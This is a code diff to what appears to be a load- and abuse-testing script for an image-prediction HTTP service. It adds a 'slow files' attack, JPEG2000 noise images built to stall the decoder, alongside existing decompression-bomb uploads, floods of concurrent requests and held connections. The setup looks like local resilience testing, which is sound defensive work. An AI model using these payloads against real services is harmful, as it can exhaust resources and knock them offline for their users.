@@ -28,6 +28,7 @@ ATTACKER = "127.0.0.66"
 LOWEST_PRIORITY = 19
 _WAIT_S = 30.0
 _BOMB_WH = (7700, 7700)
+_SLOW_WH = (2400, 1800)
 _LARGE_WH = (4000, 3000)
 _PAUSE_S = 3.0
 _JPEG = {"Content-Type": "image/jpeg"}
@@ -93,6 +94,14 @@ def _bomb() -> bytes:
     """Return a small file of 60 megapixels."""
     buffer = io.BytesIO()
     Image.new("RGB", _BOMB_WH, (200, 30, 30)).save(buffer, "WEBP", lossless=True)
+    return buffer.getvalue()
+
+
+@cache
+def _slow() -> bytes:
+    """Return a file whose decoder works on it for half a second."""
+    buffer = io.BytesIO()
+    Image.effect_noise(_SLOW_WH, 60).convert("RGB").save(buffer, "JPEG2000")
     return buffer.getvalue()
 
 
@@ -175,6 +184,7 @@ ATTACKS: dict[str, Attack] = {
     "80 requests at once": _again_and_again(_post(lambda target: target.photo, "/predict?store=0"), 80),
     "small files of 60 megapixels": _again_and_again(_post(lambda _: _bomb(), "/predict?store=0"), 12),
     "60 megapixels, kept": _again_and_again(_post(lambda _: _bomb(), "/predict"), 4),
+    "slow files": _again_and_again(_post(lambda _: _slow(), "/predict?store=0"), 12),
     "readers of nothing": _held(_photo_request, 60),
     "pictures": _again_and_again(_annotated, 60),
 }
@@ -189,7 +199,8 @@ def main() -> None:
     parser.add_argument("--token", default="")
     options = parser.parse_args()
     os.nice(LOWEST_PRIORITY)
-    _bomb()
+    for made in (_bomb, _slow):
+        made()
     target = Target(options.url, options.large, options.token)
     print("ready", flush=True)
     ATTACKS[options.name](target)
